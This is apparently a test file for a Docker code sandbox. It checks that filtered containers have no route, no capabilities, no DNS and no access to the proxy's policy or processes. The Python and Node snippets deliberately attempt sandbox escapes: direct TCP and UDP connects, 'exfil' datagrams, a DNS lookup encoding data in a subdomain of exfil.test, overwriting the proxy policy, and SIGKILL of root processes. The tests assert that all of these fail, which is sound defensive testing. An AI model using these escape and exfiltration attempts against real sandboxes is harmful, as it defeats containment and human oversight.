// Real-Docker proof that nothing in a filtered sandbox gets around the proxy
// (docs/SECURITY.md D1, D2, D3, D5, D19, D20): no route but loopback, no capability, no
// direct TCP or UDP, and a proxy socket and forwarder the sandbox user cannot touch.
// Every "blocked" case has a "still works" twin in the same program: the same sink,
// reached through the proxy.
//
// SAFETY: the sinks listen on this host's own Docker bridge address (checked to be an
// address of a local interface). A blocked path is proven by the sink's record staying empty.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import { createSocket } from "node:dgram";
import type { DockerIsol8 } from "../../src/engine/engine";
import type { ExecutionRequest } from "../../src/protocol/execution";
import { testEngine } from "../helpers";
import { type HttpSink, hostBridgeAddress, PY_HTTP, shown, startHttpSink, startUdpSink, type UdpSink } from "./network-sinks";
import { ownedContainers } from "./owned-containers";

let bridge: string;
/** An HTTP sink on the bridge address, reached through the proxy as bridge.test. */
let onBridge: HttpSink;
let udp: UdpSink;
/** bridge.test → the bridge sink, whose address is an allowed range here. */
let engine: DockerIsol8;

beforeAll(async () => {
  bridge = hostBridgeAddress();
  onBridge = await startHttpSink(bridge);
  udp = await startUdpSink(bridge);
  engine = testEngine({
    config: { network: { hosts: { "bridge.test": bridge }, allowedCidrs: [`${bridge}/32`], allowedPorts: [onBridge.port] } },
  });
});

beforeEach(() => {
  onBridge.reset();
  udp.received = [];
});

afterAll(async () => {
  await engine?.stop();
  if (engine) expect(await ownedContainers(engine)).toEqual([]);
  await Promise.all([onBridge, udp].filter(Boolean).map((s) => s.close()));
});

/** A python program with the PY_HTTP helpers, in the filtered network unless the request says otherwise. */
function py(on: DockerIsol8, code: string, request: Partial<ExecutionRequest> = {}) {
  return on.execute({ runtime: "python", network: "filtered", timeoutMs: 60_000, code: `${PY_HTTP}\n${code}`, ...request });
}

const url = (host: string, port: number, path: string) => `http://${host}:${port}${path}`;
const paths = (s: HttpSink) => s.requests.map((r) => `${r.host} ${r.url}`);

describe("network none", () => {
  test("only lo, no proxy variables, and neither a name nor a direct connect reaches the sink", async () => {
    const r = await py(
      engine,
      `show("ifaces", [n for _, n in socket.if_nameindex()])
show("proxy", os.environ.get("HTTP_PROXY"))
show("byname", get(${JSON.stringify(url("bridge.test", onBridge.port, "/none"))}, timeout=5)[0])
try:
    socket.create_connection((${JSON.stringify(bridge)}, ${onBridge.port}), 5)
    show("direct", "CONNECTED")
except OSError as e:
    show("direct", e.errno)`,
      { network: "none" },
    );
    const out = shown(r.stdout);
    expect(out).toEqual({ ifaces: ["lo"], proxy: null, byname: null, direct: 101 }); // ENETUNREACH
    expect(onBridge.connections).toBe(0);
  });
});

describe("filtered: nothing bypasses the proxy", () => {
  test("a direct TCP connect to the sink's address fails and the sink records nothing, while the proxy reaches it", async () => {
    const r = await py(
      engine,
      `for label, addr in [("bridge", (${JSON.stringify(bridge)}, ${onBridge.port})), ("loopback", ("127.0.0.1", ${onBridge.port}))]:
    try:
        socket.create_connection(addr, 5).close()
        show(label, "CONNECTED")
    except OSError as e:
        show(label, e.errno)
show("proxied", get(${JSON.stringify(url("bridge.test", onBridge.port, "/proxied"))}))`,
      { allow: ["bridge\\.test"] },
    );
    const out = shown(r.stdout);
    expect(out.bridge).toBe(101); // ENETUNREACH: the sandbox has no route at all
    expect(out.loopback).toBe(111); // ECONNREFUSED: its own loopback, where nothing listens on that port
    expect(out.proxied).toEqual([200, `sink bridge.test:${onBridge.port} /proxied`]);
    // Exactly one connection: the proxy's. The direct attempt never arrived.
    expect(onBridge.connections).toBe(1);
    expect(paths(onBridge)).toEqual([`bridge.test:${onBridge.port} /proxied`]);
  });

  test("a UDP datagram to a sink is never received, and name lookups fail; the sink does receive from this host", async () => {
    const r = await py(
      engine,
      `s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for label, addr in [("bridge", (${JSON.stringify(bridge)}, ${udp.port})), ("loopback", ("127.0.0.1", ${udp.port}))]:
    try:
        s.sendto(b"exfil-" + label.encode(), addr)
        show(label, "SENT")
    except OSError as e:
        show(label, e.errno)
try:
    socket.getaddrinfo("c2VjcmV0.exfil.test", 80)
    show("dns", "RESOLVED")
except socket.gaierror as e:
    show("dns", "failed")
show("proxied", get(${JSON.stringify(url("bridge.test", onBridge.port, "/after-udp"))})[0])`,
      { allow: ["bridge\\.test"] },
    );
    const out = shown(r.stdout);
    expect(out.bridge).toBe(101);
    // The container's own loopback may accept the datagram; it stays in the container.
    expect(["SENT", 111]).toContain(out.loopback as string | number);
    expect(out.dns).toBe("failed");
    expect(out.proxied).toBe(200);

    // Still works: the same sink receives a datagram from this host, so its silence above counts.
    const probe = createSocket("udp4");
    await new Promise<void>((resolve) => probe.send("from-host", udp.port, bridge, () => resolve()));
    while (udp.received.length === 0) await Bun.sleep(20);
    probe.close();
    expect(udp.received.map((d) => d.data)).toEqual(["from-host"]);
  });

  test("filtered mode keeps every capability set empty and only lo exists; the proxy still answers", async () => {
    const r = await py(
      engine,
      `status = dict(l.split(":\\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\\t" in l)
show("caps", {k: status[k].strip() for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"]})
show("ifaces", sorted(os.listdir("/sys/class/net")))
show("nameindex", [n for _, n in socket.if_nameindex()])
show("sink", get(${JSON.stringify(url("bridge.test", onBridge.port, "/caps"))})[0])`,
      { allow: ["bridge\\.test"] },
    );
    const out = shown(r.stdout);
    const none = "0000000000000000";
    expect(out.caps).toEqual({ CapInh: none, CapPrm: none, CapEff: none, CapBnd: none, CapAmb: none, NoNewPrivs: "1", Seccomp: "2" });
    expect(out.ifaces).toEqual(["lo"]);
    expect(out.nameindex).toEqual(["lo"]);
    expect(out.sink).toBe(200);
  });

  test("node: a raw socket around the proxy fails; fetch through NODE_USE_ENV_PROXY reaches the allowed sink", async () => {
    const r = await engine.execute({
      runtime: "node",
      network: "filtered",
      allow: ["bridge\\.test"],
      timeoutMs: 60_000,
      code: `import net from "node:net";
const direct = await new Promise((resolve) => {
  const s = net.connect(${onBridge.port}, ${JSON.stringify(bridge)});
  s.on("connect", () => { s.destroy(); resolve("LEAK"); });
  s.on("error", (e) => resolve(e.code));
});
const viaProxy = await fetch(${JSON.stringify(url("bridge.test", onBridge.port, "/node"))}).then((r) => r.status, (e) => String(e.cause?.code ?? e));
console.log(JSON.stringify({ direct, viaProxy }));`,
    });
    expect(JSON.parse(r.stdout)).toEqual({ direct: "ENETUNREACH", viaProxy: 200 });
    expect(onBridge.connections).toBe(1);
    expect(paths(onBridge)).toEqual([`bridge.test:${onBridge.port} /node`]);
  });
});

describe("filtered: the sandbox cannot reach or edit the policy", () => {
  test("the proxy socket's directory is root-only: no listing, no connect, no writes; the forwarder still relays", async () => {
    const r = await py(
      engine,
      `import errno
def attempt(fn):
    try:
        fn()
        return "SUCCEEDED"
    except OSError as e:
        return errno.errorcode[e.errno]
st = os.stat("/run/isol8-proxy")
show("dir", [oct(st.st_mode & 0o777), st.st_uid])
show("list", attempt(lambda: os.listdir("/run/isol8-proxy")))
show("unix", attempt(lambda: socket.socket(socket.AF_UNIX).connect("/run/isol8-proxy/proxy.sock")))
show("write", attempt(lambda: open("/run/isol8-proxy/policy", "w").write(".*")))
show("chmod", attempt(lambda: os.chmod("/run/isol8-proxy", 0o777)))
show("sink", get(${JSON.stringify(url("bridge.test", onBridge.port, "/policy"))})[0])`,
      { allow: ["bridge\\.test"] },
    );
    const out = shown(r.stdout);
    expect(out.dir).toEqual(["0o700", 0]);
    expect(out.list).toBe("EACCES");
    expect(["EACCES", "EPERM"]).toContain(out.unix as string);
    expect(["EACCES", "EROFS"]).toContain(out.write as string);
    expect(["EPERM", "EROFS"]).toContain(out.chmod as string);
    expect(out.sink).toBe(200);
  });

  test("kill -9 of every root process (the forwarder among them) is refused, and the proxy keeps answering", async () => {
    const r = await py(
      engine,
      `import errno, signal
roots = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            uid = [l for l in open(f"/proc/{pid}/status") if l.startswith("Uid:")][0].split()[1]
        except OSError:
            continue
        if uid == "0":
            roots.append(int(pid))
outcomes = {}
for pid in roots:
    try:
        os.kill(pid, signal.SIGKILL)
        outcomes[pid] = "KILLED"
    except OSError as e:
        outcomes[pid] = errno.errorcode[e.errno]
show("roots", len(roots))
show("outcomes", sorted(set(outcomes.values())))
show("sink", get(${JSON.stringify(url("bridge.test", onBridge.port, "/after-kill"))})[0])`,
      { allow: ["bridge\\.test"] },
    );
    const out = shown(r.stdout);
    expect(out.roots as number).toBeGreaterThanOrEqual(3); // init, supervisor, forwarder
    expect(out.outcomes).toEqual(["EPERM"]);
    expect(out.sink).toBe(200);
    expect(paths(onBridge)).toEqual([`bridge.test:${onBridge.port} /after-kill`]);
  });
});
